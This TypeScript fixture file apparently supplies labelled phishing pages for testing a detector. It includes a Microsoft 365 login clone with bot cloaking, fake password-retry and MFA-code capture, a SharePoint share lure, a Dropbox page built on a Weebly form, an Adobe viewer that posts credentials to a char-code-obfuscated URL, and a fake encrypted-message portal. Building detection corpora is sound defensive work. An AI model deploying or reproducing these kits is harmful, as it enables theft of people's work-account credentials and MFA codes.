import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { doc, msSquares, jsRoute, jsonRoute, pngRoute, cssRoute, textRoute } from '../parts/i-parts.js';

// Work-account phishing: Microsoft 365 / Google Workspace / webmail clones and SaaS brand kits.

const msCss = `body{margin:0;font-family:'Segoe UI','Segoe UI Web (West European)',-apple-system,Roboto,'Helvetica Neue',sans-serif;background:#f2f2f2 url(bg.svg) center/cover}.box{width:440px;max-width:calc(100% - 40px);margin:12vh auto 0;background:#fff;box-shadow:0 2px 6px rgba(0,0,0,.2);padding:44px;box-sizing:border-box;min-height:338px}.t{font-size:24px;font-weight:600;color:#1b1b1b;margin:16px 0 12px}input[type=email],input[type=password],input[type=text]{width:100%;border:0;border-bottom:1px solid #666;padding:6px 0;font-size:15px;outline:none;margin-bottom:16px}.btn{float:right;background:#0067b8;color:#fff;border:0;min-width:108px;padding:6px 12px;font-size:15px}.id{display:inline-block;border:1px solid #ddd;border-radius:14px;padding:2px 10px;font-size:14px;margin-bottom:6px}.lnk{font-size:13px;color:#0067b8;text-decoration:none}.err{color:#e81123;font-size:14px;margin-bottom:8px}.foot{position:fixed;bottom:0;right:0;font-size:12px;padding:8px 14px}.foot a{color:#000;margin-left:14px;text-decoration:none}`;

export const entries: Entry[] = [
  {
  id: 'i-phish-m365-aitm-prefill-loading',
  label: 'phishing',
  kind: 'm365-kit',
  url: 'https://login.microsoftonline.auth-sso-verify.com/common/oauth2/v2.0/authorize?client_id=4765445b-32c6-49b0-83e6-1d93765276ca&redirect_uri=https%3A%2F%2Fwww.office.com%2Flanding#bWFya3VzLmhvZmZtYW5uQGtsZWluZXJ0LWJhdS5kZQ==',
  routes: {
    'login.microsoftonline.auth-sso-verify.com/common/oauth2/v2.0/authorize': htmlRoute(doc({
      title: 'Sign in to your account',
      head: `<link rel="stylesheet" href="/s/c.css"><link rel="icon" href="/s/favicon.png">`,
      body: `<div id="ld" style="position:fixed;inset:0;background:#fff;display:flex;align-items:center;justify-content:center;flex-direction:column;font-family:Segoe UI"><div style="width:40px;height:40px;border:3px solid #e1e1e1;border-top-color:#0067b8;border-radius:50%;animation:s 1s linear infinite"></div><p style="color:#555;font-size:14px">Checking your browser before accessing…</p><style>@keyframes s{to{transform:rotate(360deg)}}</style></div>
<div id="app"></div>
<div class="foot"><a href="#">Terms of use</a><a href="#">Privacy &amp; cookies</a><a href="#">...</a></div>
<script src="/s/boot.js" defer></script>`,
    })),
    'login.microsoftonline.auth-sso-verify.com/s/c.css': cssRoute(msCss),
    'login.microsoftonline.auth-sso-verify.com/s/bg.svg': textRoute('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="#eef3f8"/></svg>', 'image/svg+xml'),
    'login.microsoftonline.auth-sso-verify.com/s/favicon.png': pngRoute(0, 103, 184),
    'login.microsoftonline.auth-sso-verify.com/s/boot.js': jsRoute(`(function(){
var em='';try{em=atob(location.hash.slice(1))}catch(e){}
var wd=navigator.webdriver;
fetch('/api/v1/check',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({e:em,wd:wd,tz:Intl.DateTimeFormat().resolvedOptions().timeZone,sw:screen.width})})
.then(function(r){return r.json()}).then(function(j){
 if(!j.allow){location.replace('https://www.wikipedia.org/');return}
 document.getElementById('ld').remove();
 var dom=em.split('@')[1]||'';
 var app=document.getElementById('app');
 app.innerHTML='<div class="box"><img src="'+(j.logo||'')+'" alt="" style="max-height:36px" onerror="this.outerHTML=\\'${msSquares.replace(/'/g, "\\\\'").replace(/"/g, '&quot;')}\\'"><div id="st"></div></div>';
 var st=document.getElementById('st');
 function pw(){st.innerHTML='<div class="id">'+em+'</div><div class="t">Enter password</div><div class="err" id="er"></div><input type="password" id="p" placeholder="Password" autofocus><div><a class="lnk" href="#">Forgot my password</a></div><br><button class="btn" id="b">Sign in</button>';
  var tries=0;document.getElementById('b').onclick=function(){var p=document.getElementById('p').value;if(!p)return;
   fetch('/api/v1/auth',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify({e:em,p:p,n:tries})}).then(function(r){return r.json()}).then(function(k){
    if(tries++<1){document.getElementById('er').textContent='Your account or password is incorrect. If you don\\'t remember your password, reset it now.';document.getElementById('p').value='';return}
    if(k.mfa){st.innerHTML='<div class="id">'+em+'</div><div class="t">Enter code</div><p style="font-size:14px">We texted your phone +XX XXXXXXX'+k.last+'. Please enter the code to sign in.</p><input type="text" id="c" placeholder="Code"><button class="btn" onclick="fetch(\\'/api/v1/mfa\\',{method:\\'POST\\',body:document.getElementById(\\'c\\').value}).then(function(){location.href=\\'https://outlook.office.com/mail/\\'})">Verify</button>'}})}}
 if(em){pw()}else{st.innerHTML='<div class="t">Sign in</div><input type="email" id="e" placeholder="Email, phone, or Skype"><div><a class="lnk" href="#">Can\\'t access your account?</a></div><br><button class="btn" id="n">Next</button>';document.getElementById('n').onclick=function(){em=document.getElementById('e').value;if(em.indexOf('@')>0)pw()}}
}).catch(function(){});
})();`),
    'login.microsoftonline.auth-sso-verify.com/api/v1/check': jsonRoute({ allow: true, logo: '', bg: '' }),
    'login.microsoftonline.auth-sso-verify.com/api/v1/auth': jsonRoute({ mfa: true, last: '47' }),
    'login.microsoftonline.auth-sso-verify.com/api/v1/mfa': jsonRoute({ ok: true }),
  },
},
  {
  id: 'i-phish-m365-sharepoint-shared-doc-lure',
  label: 'phishing',
  kind: 'doc-share-lure',
  url: 'https://brennan-hartley-cpa.my-sharepoint-docs.com/:b:/g/personal/accounts_brennanhartley/EY8vKq2',
  routes: {
    'brennan-hartley-cpa.my-sharepoint-docs.com/:b:/g/personal/accounts_brennanhartley/EY8vKq2': htmlRoute(doc({
      title: 'SharePoint Online',
      head: `<style>body{margin:0;font-family:'Segoe UI',sans-serif;background:#faf9f8}.bar{background:#038387;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;font-size:16px;font-weight:600}.card{width:380px;margin:80px auto;background:#fff;border-radius:4px;box-shadow:0 1.6px 3.6px rgba(0,0,0,.13);padding:32px;text-align:center}.ic{width:64px;height:78px;margin:0 auto 16px;background:#d13438;color:#fff;font-weight:bold;display:flex;align-items:flex-end;justify-content:center;padding-bottom:8px;box-sizing:border-box;border-radius:3px}.btn{display:inline-block;background:#0078d4;color:#fff;text-decoration:none;padding:9px 26px;border-radius:2px;margin-top:16px}small{color:#605e5c}</style>`,
      body: `<div class="bar">▦ &nbsp;SharePoint</div>
<div class="card">
 <div class="ic">PDF</div>
 <b>Brennan Hartley CPA shared a file with you</b>
 <p>Q4_2025_Engagement_Letter_and_Invoice.pdf</p>
 <small>This link will work for anyone with the link. 2 pages · 184 KB</small><br>
 <a class="btn" href="https://docview-secure365.net/auth/?ref=EY8vKq2">Open</a>
 <p><small>🔒 Protected by Microsoft OneDrive for Business</small></p>
</div>`,
    })),
    'docview-secure365.net/auth/': htmlRoute(doc({
      title: 'Sign in to your account',
      head: `<style>${msCss}</style>`,
      body: `<div class="box">${msSquares}<div class="t">Verify your identity to view this document</div><p style="font-size:14px">Because you're accessing sensitive info, you need to verify your email and password.</p><form method="post" action="/auth/p.php"><input type="email" name="login" placeholder="someone@example.com" required><input type="password" name="passwd" placeholder="Password" required><button class="btn">Sign in</button></form></div>`,
    })),
  },
},
  {
  id: 'i-phish-dropbox-transfer-weebly',
  label: 'phishing',
  kind: 'saas-kit',
  url: 'https://dropboxtransfer-files2025.weebly.com/',
  body: doc({
    title: 'Dropbox - Shared Files',
    head: `<style>body{margin:0;font-family:'Sharp Grotesk',Atlas Grotesk,Arial,sans-serif;background:#f7f5f2}.wsite-header{background:#fff;padding:14px 30px;display:flex;gap:10px;align-items:center;font-weight:bold;color:#0061fe;font-size:20px}.main{max-width:520px;margin:50px auto;background:#fff;padding:30px;border-radius:8px}.file{display:flex;align-items:center;gap:12px;border:1px solid #e6e2dc;border-radius:6px;padding:12px;margin:8px 0}.file i{width:32px;height:40px;background:#0061fe;display:inline-block;border-radius:3px}input{width:100%;box-sizing:border-box;padding:11px;margin:6px 0 12px;border:1px solid #bbb;border-radius:4px}.b{width:100%;background:#0061fe;color:#fff;border:0;padding:12px;border-radius:4px;font-size:15px}.wfooter{text-align:center;font-size:12px;color:#999;margin:40px}</style>`,
    body: `<div class="wsite-header">◆ Dropbox</div>
<div class="main">
<h2>3 files shared with you</h2>
<div class="file"><i></i><div><b>Purchase_Order_PO-55173.pdf</b><br><small>412 KB</small></div></div>
<div class="file"><i></i><div><b>Shipping_Docs_BL.pdf</b><br><small>1.2 MB</small></div></div>
<div class="file"><i></i><div><b>Payment_Confirmation.pdf</b><br><small>96 KB</small></div></div>
<p>Sign in with your email to download.</p>
<form class="wsite-form" action="//www.weebly.com/weebly/apps/formSubmit.php" method="POST">
<input type="hidden" name="form_version" value="2"><input type="hidden" name="wsite_approved" value="approved"><input type="hidden" name="ucfid" value="704812331986240117">
<input type="email" name="_u704812331986240117_first" placeholder="Email" required>
<input type="password" name="_u704812331986240117_pass" placeholder="Password" required>
<button class="b" type="submit">Download</button>
</form>
</div>
<div class="wfooter">Powered by Weebly · Create your own unique website with customizable templates.</div>`,
  }),
},
  {
  id: 'i-phish-adobe-pdf-viewer-blurred',
  label: 'phishing',
  kind: 'saas-kit',
  url: 'https://adobe-cloud-docs.storage-viewer.net/view/INV-20251128.html',
  body: doc({
    title: 'Adobe Document Cloud',
    head: `<style>body{margin:0;font-family:'Adobe Clean',Arial,sans-serif;background:#505050}.doc{filter:blur(5px);width:640px;margin:30px auto;background:#fff;padding:40px;min-height:700px;font-size:13px;color:#333}.doc table{width:100%;border-collapse:collapse}.doc td{border-bottom:1px solid #ccc;padding:6px}.ml{position:fixed;top:50%;left:50%;transform:translate(-50%,-50%);width:380px;background:#fff;border-radius:6px;box-shadow:0 6px 30px #000a;padding:26px}.ml .a{color:#fa0f00;font-weight:bold;font-size:20px}.ml input{width:100%;box-sizing:border-box;padding:10px;margin:6px 0 12px;border:1px solid #aaa;border-radius:4px}.ml button{width:100%;background:#1473e6;color:#fff;border:0;border-radius:16px;padding:10px;font-size:15px}</style>`,
    body: `<div class="doc"><h2>INVOICE #INV-20251128</h2><p>Bill To: Accounts Payable</p><table><tr><td>Consulting services – November</td><td>$14,200.00</td></tr><tr><td>Travel &amp; expenses</td><td>$1,318.40</td></tr><tr><td>Tax</td><td>$1,241.47</td></tr><tr><td><b>Total</b></td><td><b>$16,759.87</b></td></tr></table><p>Payment terms: Net 15. Wire to account ending 4471.</p></div>
<div class="ml">
<div class="a">Adobe Acrobat</div>
<p style="font-size:14px">This document is secured. Sign in with your email account to view the full invoice.</p>
<input id="e" type="email" placeholder="Email address"><input id="p" type="password" placeholder="Password">
<button id="v">View PDF</button>
<p id="r" style="font-size:12px;color:#c00"></p>
</div>
<script>
(function(){var k=[104,116,116,112,115,58,47,47,97,100,111,98,101,45,99,108,111,117,100,45,100,111,99,115,46,115,116,111,114,97,103,101,45,118,105,101,119,101,114,46,110,101,116,47,118,105,101,119,47,120,46,112,104,112];var u=String.fromCharCode.apply(null,k);
document.getElementById('v').onclick=function(){var e=document.getElementById('e').value,p=document.getElementById('p').value;if(!/@/.test(e)||p.length<3){document.getElementById('r').textContent='Please enter a valid email and password.';return}
fetch(u,{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'e='+encodeURIComponent(e)+'&p='+encodeURIComponent(p)}).then(function(){document.getElementById('r').textContent='Network error, please try again.'})}})();
</script>`,
  }),
  routes: { 'adobe-cloud-docs.storage-viewer.net/view/x.php': textRoute('ok', 'text/plain') },
},
  {
  id: 'i-phish-secure-message-portal-encrypted',
  label: 'phishing',
  kind: 'secure-message',
  url: 'https://securemsg.fidelis-title-escrow.com.msgcenter-enc.net/s/view?msgid=ENC-77120-AF',
  body: doc({
    title: 'Secure Message Center – Encrypted Message',
    head: `<style>body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#e9edf1}.h{background:#123a5e;color:#fff;padding:12px 24px;display:flex;justify-content:space-between}.p{max-width:520px;margin:40px auto;background:#fff;border-radius:4px;padding:28px;border-top:4px solid #2e7d32}.lock{font-size:34px}.meta td{font-size:13px;padding:3px 10px 3px 0;color:#444}input{width:100%;box-sizing:border-box;padding:10px;margin:6px 0 12px;border:1px solid #aab}.b{background:#2e7d32;color:#fff;border:0;padding:11px 24px;border-radius:3px}</style>`,
    body: `<div class="h"><b>🔐 Secure Message Center</b><span style="font-size:12px">TLS 1.3 · AES-256</span></div>
<div class="p">
<div class="lock">🔒</div>
<h2>You have received an encrypted message</h2>
<table class="meta"><tr><td>From:</td><td>closing@fidelis-title-escrow.com</td></tr><tr><td>Subject:</td><td>Final Closing Disclosure &amp; Wire Instructions</td></tr><tr><td>Expires:</td><td>72 hours</td></tr></table>
<p style="font-size:14px">To read this message, verify your identity with the email account the message was sent to.</p>
<form action="/s/unlock" method="post">
<input type="email" name="recipient" placeholder="Recipient email address" required>
<input type="password" name="password" placeholder="Email account password" required>
<button class="b">Read Message</button>
</form>
<p style="font-size:11px;color:#777">This message was sent using a secure encrypted delivery service. If you have trouble opening this message, contact the sender.</p>
</div>`,
  }),
  routes: { 'securemsg.fidelis-title-escrow.com.msgcenter-enc.net/s/unlock': htmlRoute('<!doctype html><p>Message could not be decrypted. Please try again with the correct credentials.</p>') },
},
];
